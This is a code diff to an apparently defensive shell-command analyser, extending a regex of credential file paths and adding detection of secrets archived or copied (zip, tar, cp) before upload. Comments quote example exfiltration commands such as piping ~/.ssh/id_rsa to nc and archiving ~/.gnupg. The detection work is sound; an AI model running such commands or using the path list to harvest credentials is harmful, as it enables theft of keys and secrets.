@@ -11,7 +11,7 @@ import { DYN } from '../types'
 
 /** Paths that hold keys and credentials. */
 export const SECRET_PATH =
-  /(^|\/|@)(\.ssh(\/|$)|id_(rsa|ed25519|ecdsa|dsa)\b|\.aws(\/|$)|\.kube(\/|$)|\.gnupg(\/|$)|\.netrc$|\.npmrc$|\.pgpass$|\.docker\/config\.json$|\.env$|\/etc\/shadow$|\/etc\/gshadow$|\.git-credentials$|\.bash_history$|\.zsh_history$|\.password-store(\/|$)|\.config\/gcloud(\/|$)|\.azure(\/|$)|keychains?(\/|$)|\.vault-token$)/i
+  /(^|\/|@)(\.ssh(\/|$)|id_(rsa|ed25519|ecdsa|dsa)\b|\.aws(\/|$)|\.kube(\/|$)|\.gnupg(\/|$)|\.netrc$|\.npmrc$|\.pgpass$|\.docker\/config\.json$|\.env$|\/etc\/shadow$|\/etc\/gshadow$|\.git-credentials$|\.bash_history$|\.zsh_history$|\.password-store(\/|$)|\.config\/gcloud(\/|$)|\.azure(\/|$)|keychains?(\/|$)|\.vault-token$|\.config\/gh\/hosts\.yml$)/i
 
 const LOOPBACK = /^(127\.\d+\.\d+\.\d+|localhost|::1|\[::1\])$/
 
@@ -75,6 +75,46 @@ export function secretSource(pipeline: SimpleCommand[] | undefined): string | nu
   return null
 }
 
+/** A path that holds keys or credentials, or a file this line filled with them (`zip k.zip ~/.ssh`). */
+export function holdsSecrets(c: CommandView, path: string): boolean {
+  // A public key or the known hosts are meant to be shared.
+  if (/\.pub$|known_hosts$/.test(path)) return false
+  return SECRET_PATH.test(path) || c.engine.holdsSecrets(c, path)
+}
+
+/** Archivers and copiers, and where their output goes: the first operand or the last. */
+const COPIERS: Record<string, 'first' | 'last' | 'tar'> = {
+  zip: 'first',
+  '7z': 'first',
+  '7za': 'first',
+  rar: 'first',
+  tar: 'tar',
+  cp: 'last',
+  gpg: 'first',
+}
+
+/**
+ * Files this command fills with keys or credentials (`zip -r k.zip ~/.gnupg`, `tar czf x ~/.ssh`,
+ * `cat ~/.aws/credentials > c`), so an upload of them later in the line is rated as exfiltration.
+ */
+export function secretCopies(c: CommandView): string[] {
+  if (!secretSource([c.cmd])) return []
+  const out = c.cmd.redirects
+    .filter((r) => /^(>|>>|>\||&>)$/.test(r.op) && r.target)
+    .map((r) => r.target!.value)
+  const how = Object.hasOwn(COPIERS, c.name) ? COPIERS[c.name] : undefined
+  const operands = c.args.filter((a) => !a.value.startsWith('-')).map((a) => a.value)
+  if (how === 'tar') {
+    const f = c.args.findIndex((a) => /^-?[a-zA-Z]*f$/.test(a.value) || a.value === '--file')
+    const named = f >= 0 ? c.args[f + 1]?.value : undefined
+    if (named && named !== '-') out.push(named)
+  } else if (how === 'first') {
+    const at = c.name.startsWith('7z') || c.name === 'rar' ? 1 : 0
+    if (operands[at]) out.push(operands[at])
+  } else if (how === 'last' && operands.length > 1) out.push(operands[operands.length - 1]!)
+  return out.filter((p) => !p.includes(DYN))
+}
+
 /** A program that sends its standard input to another machine. */
 export function sendsStdin(c: CommandView): boolean {
   const values = c.args.map((a) => a.value)
@@ -108,7 +148,7 @@ export function exfiltration(c: CommandView): boolean {
   if (!sendsStdin(c)) return false
   // `nc host 4444 < ~/.ssh/id_rsa`: a secret file as standard input.
   const file = c.cmd.redirects.find(
-    (r) => r.op === '<' && r.target && SECRET_PATH.test(r.target.value),
+    (r) => r.op === '<' && r.target && holdsSecrets(c, r.target.value),
   )
   if (file?.target) {
     c.emit('net.exfiltrate', 'high', `Sends ${file.target.value} to another machine`, file.span)
